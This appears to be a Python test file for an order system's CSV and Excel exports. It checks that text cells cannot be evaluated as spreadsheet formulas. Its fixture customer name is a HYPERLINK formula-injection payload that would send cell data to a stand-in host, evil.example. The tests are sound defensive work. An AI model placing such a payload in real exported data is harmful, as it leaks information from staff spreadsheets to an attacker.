"""Exports are formula-safe (OWASP "CSV injection"): text that customers and shops send —
a name, a promo code — reaches staff spreadsheets as text, never as a live formula. CSV cells
that a spreadsheet would read as a formula get a leading ``'``; Excel cells are written as
strings (with Excel's quote prefix), so ``=HYPERLINK(…)`` stays the literal text. Numbers stay
numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from dingdan.web.ui.export import spreadsheet_text

NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
PROMO = "+SUM(1,2)"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1",
                                  "＝1+1", "＋1", "－1", "＠SUM(A1)"])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["张伟", "a=b", "DOUBLE11", "", "'=already quoted", " =1"])
def test_other_text_is_left_alone(text):
    assert spreadsheet_text(text) == text


async def _order(admin, catalogue) -> str:
    a = catalogue["skus"]["A"]
    r = await admin.post("/api/v1/orders", json={
        "channel": "tmall", "customer": {"name": NAME, "phone": "13800138000"},
        "shipping_address": {"recipient": "张伟", "phone": "13800138000", "province": "上海市",
                             "city": "上海市", "district": "浦东新区", "street": "世纪大道 1 号"},
        "lines": [{"sku": a, "quantity": 2, "unit_price": 2550}],
        "payment_method": "wechat_pay", "promo_code": PROMO})
    assert r.status_code == 201, r.text
    number: str = r.json()["number"]
    return number


async def test_the_csv_export_prefixes_formula_text_and_keeps_numbers(office, admin, catalogue):
    number = await _order(admin, catalogue)
    r = await admin.get("/orders/export.csv", params={"q": number})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    row = rows[1]
    assert row[0] == number
    assert row[1] == "'" + NAME
    assert row[-1] == "'" + PROMO
    assert row[6:9] == ["2", "25.50", "51.00"]  # quantity, unit price, amount: plain numbers
    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


async def test_the_excel_export_stores_formula_text_as_text(office, admin, catalogue):
    number = await _order(admin, catalogue)
    r = await admin.get("/orders/export.xlsx", params={"q": number})
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    _header, row = [list(r) for r in ws.iter_rows()]
    assert row[1].value == NAME and row[1].data_type == "s" and row[1].quotePrefix
    assert row[-1].value == PROMO and row[-1].data_type == "s" and row[-1].quotePrefix
    assert row[6].value == 2 and row[6].data_type == "n"
    assert float(row[7].value) == 25.5 and row[7].data_type == "n"
